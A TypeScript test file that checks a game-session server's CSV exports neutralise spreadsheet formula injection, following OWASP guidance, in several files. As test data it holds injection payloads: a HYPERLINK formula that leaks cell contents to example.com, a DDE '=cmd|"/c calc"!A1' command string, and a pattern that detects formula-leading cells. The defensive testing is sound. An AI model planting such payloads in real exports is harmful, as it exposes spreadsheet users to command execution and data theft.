import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Action, Pending } from '../../shared/engine/actions.ts';
import { exportBatch } from '../../server/export/batch.ts';
import { csvLine, csvRows } from '../../server/export/csv.ts';
import { gamesCsv } from '../../server/sim/run.ts';
import { csvRecords, parseCsv, playedGames, unzip } from '../export/helpers.ts';
import { bootServer, connectClient, genericAction, tempDir, type TestServer } from '../integration/helpers.ts';

/**
 * Issue 9.5: chat and labels starting with = + - @ (or tab / CR) reached spreadsheets as
 * formulas. Every CSV Parley writes goes through server/export/csv.ts, which neutralises such
 * text cells the OWASP way (a leading ' and quotes) and leaves numbers alone.
 */

const FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];

describe('the CSV writer', () => {
  it('prefixes and quotes formula-leading text cells, and leaves numbers and plain text as they are', () => {
    const line = csvLine(['plain', -3, 2.5, '=1+1', '-3', 'a "quoted" word', '']);
    expect(line).toBe('plain,-3,2.5,"\'=1+1","\'-3","a ""quoted"" word",\n');
  });

  it('neutralises every OWASP leading character and round-trips row and column counts', () => {
    const rows = FORMULAS.map((text, i) => [i, text, -i]);
    const parsed = parseCsv(csvRows(rows));
    expect(parsed).toHaveLength(FORMULAS.length);
    parsed.forEach((cells, i) => {
      expect(cells).toEqual([String(i), `'${FORMULAS[i]}`, String(-i)]);
    });
    // every neutralised cell is quoted in the file
    for (const text of FORMULAS) expect(csvRows([[text]]).startsWith(`"'`)).toBe(true);
  });

  it('is what games.csv uses: text neutralised, negative metrics still numbers', () => {
    const csv = gamesCsv([{ game: 0, seed: 1, agents: '=cmd|"/c calc"!A1', outcome: '@x', headline: { points: -3, rate: null } }] as never);
    expect(parseCsv(csv)).toEqual([
      ['game', 'seed', 'agents', 'outcome', 'points', 'rate'],
      ['0', '1', `'=cmd|"/c calc"!A1`, "'@x", '-3', ''],
    ]);
    expect(csv).toContain(',-3,');
  });
});

describe('exports of a session whose seat writes formulas', () => {
  let t: TestServer;
  let id: string;
  let zip: Map<string, Buffer>;

  beforeAll(async () => {
    // the program seat plays as fast as the server answers: the act rate limit is not under test
    t = await bootServer({ limits: { socketActsPerSec: 0 } });
    const created = await t.createSession({
      game: 'trust-split',
      preset: 'human',
      seed: 4,
      seats: [{ kind: 'external', label: '=cmd|"/c calc"!A1' }, { kind: 'agent', agent: 'greedy', label: '@participant' }],
    });
    id = created.id;
    const player = connectClient(t.url, created.seats[0].token!);
    await player.connected();
    let said = 0;
    player.autoplay((p: Pending, rand, seat): Action => (p.kind === 'speak' ? { kind: 'speak', text: FORMULAS[said++ % 4] } : genericAction(p, rand, seat)));
    await player.waitForOutcome();
    player.close();
    const res = await fetch(`${t.url}/api/sessions/${id}/export`, { headers: { authorization: 'Bearer test-admin-token' } });
    expect(res.status).toBe(200);
    zip = unzip(Buffer.from(await res.arrayBuffer()));
  });
  afterAll(async () => {
    await t.close();
  });

  const file = (name: string) => zip.get(`parley-${id}/${name}`)!.toString();

  it('neutralises chat in statements.csv and rounds.csv and labels in seats.csv; numbers stay numbers', () => {
    const statements = csvRecords(file('statements.csv')).filter((r) => r.seat === '0');
    expect(statements.length).toBeGreaterThanOrEqual(4);
    expect(new Set(statements.map((r) => r.text))).toEqual(new Set(FORMULAS.slice(0, 4).map((f) => `'${f}`)));
    for (const r of csvRecords(file('rounds.csv'))) {
      if (r.seat === '0') expect(r.message.startsWith("'")).toBe(true);
      expect(r.points).toMatch(/^-?\d+(\.\d+)?$/);
    }
    expect(csvRecords(file('seats.csv')).map((s) => s.label)).toEqual([`'=cmd|"/c calc"!A1`, "'@participant"]);
    // no raw cell in any CSV opens with a formula character
    for (const name of ['statements.csv', 'rounds.csv', 'seats.csv']) {
      for (const row of parseCsv(file(name))) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r＝＋－＠]|^-(?!\d+(\.\d+)?$)/);
    }
  });

  it('keeps the raw text exact in events.jsonl', () => {
    const texts = file('events.jsonl')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l))
      .filter((r) => r.kind === 'game' && r.event.type === 'message' && r.event.seat === 0)
      .map((r) => r.event.text);
    expect(new Set(texts)).toEqual(new Set(FORMULAS.slice(0, 4)));
  });
});

describe('simulator batch tables', () => {
  const dir = tempDir('parley-csv-batch-');
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('neutralise formula text in the per-game and combined tables', async () => {
    const [game] = playedGames('trust-split', 'greedy,fair', 1, 9);
    let first = true;
    const events = game.events.map((e) => {
      if (first && e.type === 'message') {
        first = false;
        return { ...e, text: '=HYPERLINK("http://example.com","x")' };
      }
      return e;
    });
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'events.jsonl'), events.map((event, seq) => JSON.stringify({ game: 0, seq, event }) + '\n').join(''));
    await exportBatch({ game: 'trust-split', games: 1, seed: 9, agents: 'greedy,fair' }, dir, []);
    for (const path of [join(dir, 'statements.csv'), join(dir, 'games', '0', 'statements.csv')]) {
      const texts = csvRecords(readFileSync(path, 'utf8')).map((r) => r.text);
      expect(texts).toContain(`'=HYPERLINK("http://example.com","x")`);
      expect(texts.filter((x) => x.startsWith('='))).toEqual([]);
    }
  });
});
